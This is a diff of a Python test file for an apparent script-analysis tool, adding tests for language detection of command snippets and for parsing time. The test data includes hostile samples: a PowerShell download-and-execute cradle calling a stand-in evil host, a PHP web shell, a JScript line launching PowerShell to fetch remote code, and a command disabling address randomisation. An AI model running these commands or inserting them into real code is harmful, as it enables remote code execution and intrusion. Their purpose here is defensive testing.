@@ -20,6 +20,7 @@ from svc.assistant.skills.script.findings import ScriptBehaviour, ScriptPart, Sc
 from svc.assistant.skills.script.language import Language, language_of, script_in
 from svc.assistant.skills.script.stages import evaluated
 from svc.assistant.skills.script.tool import MAX_PARTS, inspect
+from tests.support.growth import times_as_long
 
 CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example.net/a.ps1')"
 
@@ -284,3 +285,49 @@ def test_a_text_that_takes_too_long_to_parse_is_split_by_lines_and_says_so():
         event.text for event in events if isinstance(event, Gap)
     ]
     assert "wget" in [event.title for event in events if isinstance(event, Finding)]
+
+
+@pytest.mark.parametrize(
+    ("text", "language"),
+    [
+        ("df -h", Language.SHELL),
+        ("lsmod", Language.SHELL),
+        ("sysctl -w kernel.randomize_va_space=0", Language.SHELL),
+        ("net accounts", Language.BATCH),
+        ("shutdown /s /t 1 & exit\nmakecab.exe C:\\a.hiv C:\\a.zip", Language.BATCH),
+        ('"C:\\Tools\\agent.exe" --install', Language.BATCH),
+        ("Start-Process calc.exe -ArgumentList '/q'", Language.POWERSHELL),
+        ("$p = Get-Process; & 'C:\\a.exe' $p.Id", Language.POWERSHELL),
+        ("import os\nprint(os.getcwd())", Language.PYTHON),
+        ("SELECT name FROM users WHERE id = 1", Language.SQL),
+        ("<?php system($_GET['c']); ?>", Language.PHP),
+        ("use strict;\nmy $x = shift;", Language.PERL),
+        ("var x = new ActiveXObject('a'); x.Run('powershell -nop IEX(iwr http://a.test)')", Language.JAVASCRIPT),
+        ("whoami", Language.UNKNOWN),
+        ("ping 192.0.2.7", Language.UNKNOWN),
+        ("frobnicate --all", Language.UNKNOWN),
+    ],
+)
+def test_a_command_has_the_language_that_its_words_tell_or_none(text: str, language: Language):
+    assert language_of(text) is language
+
+
+@pytest.mark.parametrize(
+    "unit",
+    [
+        "var a{n} = '{n}' + 'b'; function f{n}(x) {{ return x + a{n}; }} f{n}('c');\n",
+        "$a{n} = 'x' + '{n}'; Write-Output ('{{0}}' -f $a{n})\n",
+        "echo $(printf '%s' {n}) | grep a{n} > /tmp/f{n}\n",
+        "set a{n}=b{n}&& echo %a{n}:~1% ^& b\n",
+        "x{n} = Chr(6{n}) & \"a\" & StrReverse(\"b{n}\")\n",
+    ],
+    ids=["js", "ps1", "sh", "bat", "vbs"],
+)  # fmt: skip
+def test_the_work_grows_with_the_size_of_a_script(unit: str, request: pytest.FixtureRequest):
+    """Time for four times the text is at most ten times as long: quadratic work would take sixteen times as long."""
+    ending = request.node.callspec.id
+    short, long = ("".join(unit.format(n=number) for number in range(count)) for count in (240, 960))
+
+    explained(short, f"a.{ending}")
+    works = [lambda text=text: explained(text, f"a.{ending}") for text in (short, long)]
+    assert times_as_long(works, most=10) < 10
